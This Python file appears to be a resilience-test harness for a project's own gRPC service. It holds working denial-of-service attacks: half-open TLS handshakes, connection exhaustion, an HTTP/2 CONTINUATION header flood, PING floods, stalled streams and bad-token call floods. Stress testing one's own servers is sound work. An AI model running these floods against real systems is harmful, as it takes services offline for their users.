"""Attacks on one TCP door, each a process of its own. Usage: storm_attacks.py ATTACK HOST:PORT AUTHORITIES SECONDS SIZE

Every attack says on its first line that it begins, goes on until its time is over, begins again whatever the kernel ends,
and counts what it did on its last line.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import resource
import socket
import ssl
import sys
import threading
import time
from collections.abc import AsyncIterator, Callable
from pathlib import Path

import grpc
import grpc.aio

__all__ = ["ATTACKS"]

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _SETTINGS, _PING, _CONTINUATION = 1, 4, 6, 9
_THREADS = 8


class Target:
    """A door, and for how long it is attacked."""

    def __init__(self, address: str, authorities: Path, seconds: float, size: int) -> None:
        self.host, _, port = address.rpartition(":")
        self.address, self.port, self.size = address, int(port), size
        self.authorities = authorities
        self.until = time.monotonic() + seconds
        self.count = 0

    @property
    def over(self) -> bool:
        """True when the time is over and something was begun: a busy machine may hold the attack up for as long."""
        return self.count > 0 and time.monotonic() > self.until

    def raw(self) -> socket.socket:
        """Return a new TCP connection."""
        return socket.create_connection((self.host, self.port), 2)

    def greeted(self) -> ssl.SSLSocket:
        """Return a new connection with HTTP/2 begun."""
        context = ssl.create_default_context(cafile=str(self.authorities))
        context.set_alpn_protocols(["h2"])
        connection = context.wrap_socket(self.raw(), server_hostname=self.host)
        connection.settimeout(2)
        connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
        return connection


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def _in_threads(target: Target, once: Callable[[Target], None], threads: int = _THREADS) -> None:
    """Repeat something in some threads; whatever the kernel ends begins again."""

    def again() -> None:
        while not target.over:
            target.count += 1
            with contextlib.suppress(OSError):
                once(target)
            time.sleep(0.001)

    workers = [threading.Thread(target=again, daemon=True) for _ in range(threads)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(max(target.until - time.monotonic(), 0) + 5)


def _hold_open(target: Target, opened: Callable[[], socket.socket]) -> None:
    """Keep as many connections open as wanted; those that the kernel closes are opened again."""
    held: list[socket.socket] = []
    while not target.over:
        while len(held) < target.size and not target.over:
            try:
                held.append(opened())
                target.count += 1
            except OSError:
                break
        for connection in held[:]:
            with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError):
                connection.setblocking(False)
                try:
                    gone = connection.recv(65_536) == b""
                except (ConnectionError, ssl.SSLError) as error:
                    gone = not isinstance(error, ssl.SSLWantReadError)
                if gone:
                    connection.close()
                    held.remove(connection)
        time.sleep(0.05)


def half_open(target: Target) -> None:
    """Begin handshakes that never end."""

    def opened() -> socket.socket:
        connection = target.raw()
        connection.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(32))
        return connection

    _hold_open(target, opened)


def connections(target: Target) -> None:
    """Open connections and do nothing with them."""
    _hold_open(target, target.raw)


def greetings(target: Target) -> None:
    """Shake hands, keep the connections and make no call."""
    _hold_open(target, target.greeted)


def metadata(target: Target) -> None:
    """Send the headers of one call for ever: 100 MiB of them, or what the kernel takes."""
    entry = b"\x00\x03x-a" + b"\x7f\x81\x3e" + b"a" * 8064  # a literal field without indexing, of 8 kB

    def once(target: Target) -> None:
        with target.greeted() as connection:
            connection.sendall(_frame(_HEADERS, 0, 1, entry))
            for _ in range(13_000):
                connection.sendall(_frame(_CONTINUATION, 0, 1, entry))

    _in_threads(target, once)


def pings(target: Target) -> None:
    """Send pings as fast as they are taken."""

    def once(target: Target) -> None:
        with target.greeted() as connection:
            while not target.over:
                connection.sendall(_frame(_PING, 0, 0, bytes(8)) * 100)

    _in_threads(target, once)


def bodiless(target: Target) -> None:
    """Begin calls whose requests never come: half of them show a bad token, half need none."""
    asyncio.run(_calls(target, bodies=False))


def bad_tokens(target: Target) -> None:
    """Make whole calls with bad tokens, as many as can be made."""
    asyncio.run(_calls(target, bodies=True))


async def _calls(target: Target, *, bodies: bool) -> None:
    credentials = grpc.ssl_channel_credentials(target.authorities.read_bytes())
    channels = [
        grpc.aio.secure_channel(target.address, credentials, options=(("grpc.use_local_subchannel_pool", 1),))
        for _ in range(10)
    ]

    async def never() -> AsyncIterator[bytes]:
        await asyncio.Event().wait()
        yield b""

    async def again(number: int) -> None:
        channel = channels[number % len(channels)]
        open_to_all = number % 2 == 0 and not bodies
        path = "/grpc.health.v1.Health/Check" if open_to_all else "/nomaflow_api.v1.KernelService/ListRuns"
        shown = () if open_to_all else (("authorization", f"Bearer nft1.{number:043d}"),)
        call = channel.unary_unary(path) if bodies else channel.stream_unary(path)
        while not target.over:
            target.count += 1
            left = max(target.until - time.monotonic(), 0.1)
            with contextlib.suppress(grpc.aio.AioRpcError, asyncio.CancelledError):
                await call(b"" if bodies else never(), metadata=shown, timeout=left)

    await asyncio.gather(*(again(number) for number in range(target.size)))


ATTACKS: dict[str, Callable[[Target], None]] = {
    "bodiless": bodiless,
    "bad-tokens": bad_tokens,
    "half-open": half_open,
    "connections": connections,
    "greetings": greetings,
    "metadata": metadata,
    "pings": pings,
}
"""Attacks by name."""


def main(attack: str, address: str, authorities: str, seconds: str, size: str) -> None:
    """Attack, and print how many connections or calls were begun."""
    # On the kernel's own machine an attacker competes for its processors; what is asked is what the kernel does itself.
    os.nice(19)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard if soft < hard else soft, hard))
    target = Target(address, Path(authorities), float(seconds), int(size))
    print("begun", flush=True)
    ATTACKS[attack](target)
    print(target.count, flush=True)
    os._exit(0)


if __name__ == "__main__":
    main(*sys.argv[1:])
